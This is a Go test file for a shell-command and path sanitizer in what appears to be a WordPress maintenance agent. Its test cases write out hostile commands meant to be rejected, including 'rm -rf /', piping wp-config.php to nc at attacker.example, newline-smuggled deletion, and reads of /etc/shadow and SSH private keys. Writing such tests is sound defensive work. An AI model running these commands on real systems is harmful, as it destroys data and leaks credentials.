package sshexec

import (
	"errors"
	"testing"

	sherrors "github.com/wpmend-dev/wpmend-agent/pkg/errors"

	"github.com/stretchr/testify/assert"
)

// Ensure that chained, substituted and redirected commands never pass the
// sanitizer, and plain diagnostic commands always do.
func TestValidateCommand(t *testing.T) {
	tests := []struct {
		name     string
		command  string
		rejected bool
	}{
		{
			name:     "plain listing is accepted",
			command:  "ls -la /var/www/html",
			rejected: false,
		},
		{
			name:     "wp-cli command is accepted",
			command:  "wp core version --path=/var/www/html --allow-root",
			rejected: false,
		},
		{
			name:     "chained deletion is rejected",
			command:  "ls -la; rm -rf /",
			rejected: true,
		},
		{
			name:     "command substitution is rejected",
			command:  "cat $(cat /etc/passwd)",
			rejected: true,
		},
		{
			name:     "backtick substitution is rejected",
			command:  "echo `whoami`",
			rejected: true,
		},
		{
			name:     "pipe is rejected",
			command:  "cat wp-config.php | nc attacker.example 9000",
			rejected: true,
		},
		{
			name:     "output redirection is rejected",
			command:  "id > /var/www/html/pwned.txt",
			rejected: true,
		},
		{
			name:     "environment expansion is rejected",
			command:  "ls $HOME",
			rejected: true,
		},
		{
			name:     "newline smuggling is rejected",
			command:  "ls -la\nrm -rf /",
			rejected: true,
		},
		{
			name:     "background operator is rejected",
			command:  "sleep 600 &",
			rejected: true,
		},
		{
			name:     "empty command is rejected",
			command:  "   ",
			rejected: true,
		},
		{
			name:     "traversal into shadow is rejected",
			command:  "cat ../../../etc/shadow",
			rejected: true,
		},
		{
			name:     "direct shadow read is rejected",
			command:  "cat /etc/shadow",
			rejected: true,
		},
		{
			name:     "ssh key read is rejected",
			command:  "cat /root/.ssh/id_rsa",
			rejected: true,
		},
		{
			name:     "quoted protected path is rejected",
			command:  `cat "/etc/sudoers"`,
			rejected: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateCommand(tt.command)

			if !tt.rejected {
				assert.NoError(t, err)
				return
			}

			assert.Error(t, err)

			var rejected *sherrors.CommandRejected
			assert.True(t, errors.As(err, &rejected), "rejection must carry the CommandRejected type")
		})
	}
}

func TestValidatePath(t *testing.T) {
	assert.NoError(t, ValidatePath("/var/www/html/wp-config.php"))

	assert.Error(t, ValidatePath("../../../etc/shadow"))
	assert.Error(t, ValidatePath("/etc/passwd"))
	assert.Error(t, ValidatePath("/ETC/PASSWD"), "deny list comparison is case insensitive")
	assert.Error(t, ValidatePath("/dev/sda"))
	assert.Error(t, ValidatePath("/boot/grub/grub.cfg"))
	assert.Error(t, ValidatePath("backups/.ssh/authorized_keys"))
}

// Every probe and phase template in the repo must itself survive the
// sanitizer, otherwise the engine rejects its own commands at runtime.
func TestSanitizeValueStripsMetacharacters(t *testing.T) {
	assert.Equal(t, "rm -rf /tmp", sanitizeValue("$(rm -rf /tmp);"))
	assert.Equal(t, "plain-value", sanitizeValue("plain-value"))

	long := make([]byte, MaxParamValueLength*2)

	for i := range long {
		long[i] = 'a'
	}

	assert.Len(t, sanitizeValue(string(long)), MaxParamValueLength)
}
